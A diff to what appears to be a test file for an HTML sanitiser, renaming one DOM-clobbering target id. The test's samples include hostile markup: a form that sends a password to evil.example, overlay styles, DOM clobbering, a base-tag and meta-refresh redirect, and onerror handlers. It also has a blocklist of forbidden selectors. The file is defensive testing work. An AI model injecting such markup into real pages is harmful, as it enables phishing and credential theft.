@@ -26,7 +26,7 @@ const markup: Readonly<Record<string, string>> = {
   'a form': '<form action="https://evil.example"><input name="password"><button>Sign In</button></form>',
   styles: '<style>body { display: none }</style><p style="position: fixed; inset: 0">over all</p>',
   'DOM clobbering of names that the page uses':
-    '<a id="root" name="portalBoot">x</a><p id="portalLazyScripts">y</p>',
+    '<a id="root" name="portalBoot">x</a><p id="portalScripts">y</p>',
   'a base and a refresh':
     '<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">',
   'a template and a comment': '<template><img src=x onerror="1"></template><!--<img src=x onerror="1">-->',
@@ -39,7 +39,7 @@ const FORBIDDEN = [
   // Every input but the portal's own: the check box that selects the file.
   'input:not([type=checkbox][aria-label="a.zip"])',
   ...['svg script', '[onclick]', '[onerror]', '[onload]', '[onmouseover]', '[srcdoc]'],
-  ...['a[href^="javascript"]', 'a[href^="data"]', '[name=portalBoot]', '#portalLazyScripts'],
+  ...['a[href^="javascript"]', 'a[href^="data"]', '[name=portalBoot]', '#portalScripts'],
 ].join(', ');
 
 // SEC-1, SEC-2.
